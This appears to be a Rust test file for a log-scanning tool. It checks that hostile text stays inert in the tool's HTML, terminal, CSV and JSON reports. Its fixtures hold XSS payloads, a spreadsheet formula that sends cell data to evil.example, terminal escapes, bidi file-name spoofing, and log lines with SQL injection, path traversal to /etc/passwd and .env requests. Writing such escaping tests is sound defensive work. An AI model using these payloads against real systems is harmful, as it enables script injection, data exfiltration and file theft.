//! Log text is text: markup, formulas, terminal escapes, direction marks and NULs in any field and
//! in file names show as themselves in every form of the report, and act in none.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test may fail loudly")]

mod common;

use common::{Line, Options, START, check, line};
use sekisho::base::Language;
use sekisho::report::{self, Report};

const MARKUP: &str = "<img src=x onerror=alert(document.domain)>";
const ATTRIBUTE: &str = "\"'><svg/onload=alert(1)>";
const CLOSING: &str = "</pre></style></script><script>alert(1)</script>";
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/\"&A1,\"open\")";
const ESCAPES: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31m\u{9b}1m";
const BIDI: &str = "\u{202e}gpj.exe\u{202c}\u{2066}x\u{2069}\u{200f}\u{61c}";
const ZEROS: &str = "a\0b\0";

const HOSTILE: [&str; 7] = [MARKUP, ATTRIBUTE, CLOSING, FORMULA, ESCAPES, BIDI, ZEROS];

/// Quotes as a server writes them into a quoted field.
fn quoted(text: &str) -> String {
    text.replace('\\', "\\\\").replace('"', "\\\"")
}

/// Records that findings rest on, with hostile text in every field.
fn records(text: &str) -> Vec<Line> {
    let text = quoted(text);
    let user = text.replace("] ", "]").replace(" [", "[");
    let mut lines = Vec::new();
    for n in 0..30 {
        let target = format!("/p/files/{n}-{text}/plan-{n}.pdf?q={text}");
        let own = line("203.0.113.5", START + n, &target).user(&user);
        lines.push(own.agent(&text).referrer(&text).bytes(40_000 + n));
    }
    let leaked = format!("/{text}/.env");
    lines.push(line("203.0.113.6", START + 60, &leaked).bytes(812).agent(&text));
    let payload = format!("/{text}/item.php?id=1'%20union%20select%201,2,3--%20{text}");
    lines.push(line("203.0.113.7", START + 61, &payload).bytes(9_999).referrer(&text));
    let climbing = format!("/a/../../{text}/etc/passwd");
    lines.push(line("203.0.113.8", START + 62, &climbing).bytes(1_874).method("GET"));
    lines
}

/// A report whose file name, findings, evidence and samples hold hostile text.
fn hostile(text: &str) -> Report {
    let lines = records(text).iter().map(|line| line.text() + "\n").collect::<String>();
    let unread = format!("{text} is no record\n").repeat(25);
    let name = format!("logs/{text}/access.log");
    let bytes = [lines.as_bytes(), unread.as_bytes()].concat();
    let report = check(&[(&name, &bytes), (text, b"")], &Options::default());
    for detector in ["D2", "B6", "F5"] {
        let is_there = report.findings.iter().any(|finding| finding.detector == detector);
        assert!(is_there, "{detector} does not fire for {text:?}, so nothing is shown of it");
    }
    report
}

fn each(assert: impl Fn(&str, &Report, Language)) {
    for text in HOSTILE {
        let report = hostile(text);
        for language in [Language::En, Language::Ja] {
            assert(text, &report, language);
        }
    }
}

/// Tags that the program's own markup uses.
const OWN_TAGS: &[&str] = &[
    "!doctype",
    "a",
    "body",
    "code",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "head",
    "header",
    "html",
    "li",
    "main",
    "mark",
    "meta",
    "p",
    "pre",
    "section",
    "strong",
    "style",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "title",
    "tr",
    "ul",
];

/// Attributes that the program's own markup uses.
const OWN_ATTRIBUTES: &[&str] =
    &["lang", "charset", "http-equiv", "content", "name", "class", "id", "href", "html"];

/// The tags of a page with their attributes, read as a browser reads them.
fn tags(html: &str) -> Vec<(String, Vec<String>)> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let (tag, behind) = rest[at + 1..].split_once('>').unwrap();
        let name: String =
            tag.trim_start_matches('/').chars().take_while(|c| !c.is_whitespace()).collect();
        // Attribute values hold no quotes: those were escaped.
        let outside: String = tag.split('"').step_by(2).collect();
        let attributes = outside.split_whitespace().skip(1);
        let attributes = attributes.map(|a| a.trim_end_matches('=').to_owned()).collect();
        rest = if name == "style" && !tag.starts_with('/') {
            behind.find("</style").map_or("", |end| &behind[end..])
        } else {
            behind
        };
        tags.push((name, attributes));
    }
    tags
}

#[test]
fn html_has_no_tag_or_attribute_but_its_own() {
    each(|text, report, language| {
        let html = report::html(report, language);
        for (name, attributes) in tags(&html) {
            assert!(OWN_TAGS.contains(&name.as_str()), "<{name}> for {text:?}");
            for attribute in attributes {
                assert!(
                    OWN_ATTRIBUTES.contains(&attribute.as_str()),
                    "{name} {attribute} for {text:?}"
                );
            }
        }
        assert_shows_as_text(&html, text);
    });
}

/// Nothing in a text acts on a terminal or turns its direction.
fn assert_shows_as_text(shown: &str, text: &str) {
    let acts = |c: &char| {
        (c.is_control() && !matches!(c, '\n' | '\r'))
            || matches!(c, '\u{200e}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{61c}')
    };
    let at = shown.chars().position(|c| acts(&c));
    let around =
        at.map(|at| shown.chars().skip(at.saturating_sub(60)).take(80).collect::<String>());
    assert_eq!(around, None, "for {text:?}");
}

#[test]
fn a_terminal_obeys_nothing_of_a_report() {
    each(|text, report, language| {
        let shown = report::text(report, language);
        assert!(!shown.contains('\r'), "{text:?}");
        assert_shows_as_text(&shown, text);
    });
}

/// The cells of a CSV file (RFC 4180).
fn cells(csv: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut chars = csv.trim_start_matches('\u{feff}').chars().peekable();
    let mut inside = false;
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap();
        match c {
            '"' if inside && chars.peek() == Some(&'"') => {
                chars.next();
                row.last_mut().unwrap().push('"');
            }
            '"' => inside = !inside,
            ',' if !inside => row.push(String::new()),
            '\r' if !inside => {}
            '\n' if !inside => rows.push(vec![String::new()]),
            c => row.last_mut().unwrap().push(c),
        }
    }
    assert!(!inside, "a cell is not closed");
    rows.pop();
    rows
}

#[test]
fn no_cell_is_a_formula() {
    each(|text, report, language| {
        let csv = report::csv(report, language);
        assert_shows_as_text(&csv, text);
        let rows = cells(&csv);
        assert!(rows.len() > 20);
        let columns = rows[0].len();
        for row in rows {
            assert_eq!(row.len(), columns, "{text:?} broke a row: {row:?}");
            for cell in row {
                let is_formula = cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(!is_formula || cell == "-", "{cell:?}");
            }
        }
    });
}

#[test]
fn json_keeps_every_character() {
    for text in HOSTILE {
        let report = hostile(text);
        let json = serde_json::to_string(&report).unwrap();
        let again: Report = serde_json::from_str(&json).unwrap();
        assert_eq!(serde_json::to_string(&again).unwrap(), json, "{text:?}");
        assert!(!json.contains(|c: char| c < ' '), "control characters are escaped");
        assert!(again.sources.iter().any(|source| source.name == text));
        let as_stored = quoted(text);
        let holds = |shown: &String| shown.contains(&as_stored);
        let mut shown = again.findings.iter().flat_map(|finding| &finding.evidence);
        assert!(shown.any(|evidence| evidence.text.as_ref().is_some_and(holds)), "{text:?}");
    }
}

#[test]
fn bytes_that_are_no_text_are_replaced_and_marks_stay_in_place() {
    let mut bytes =
        line("203.0.113.5", START, "/\u{fffd}\u{691c}/.env").bytes(812).text().into_bytes();
    bytes.extend_from_slice(b"\n203.0.113.6 - \xff\xfe\x80 [06/May/2021:01:00:00 +0000] \"GET /\xe6\xa4/.env HTTP/1.1\" 200 812 \"-\" \"\xc0\xae\"\n");
    let report = check(&[("access.log", &bytes)], &Options::default());
    let finding: Vec<_> = report.findings.iter().filter(|f| f.detector == "B6").collect();
    assert_eq!(finding.iter().map(|finding| finding.count).sum::<u64>(), 2);
    for evidence in finding.iter().flat_map(|finding| &finding.evidence) {
        let text = evidence.text.as_ref().unwrap();
        let [from, to] = evidence.mark.unwrap();
        let marked: String = text.chars().skip(from as usize).take((to - from) as usize).collect();
        assert!(marked.starts_with('/') && marked.ends_with("/.env"), "{marked}");
    }
}
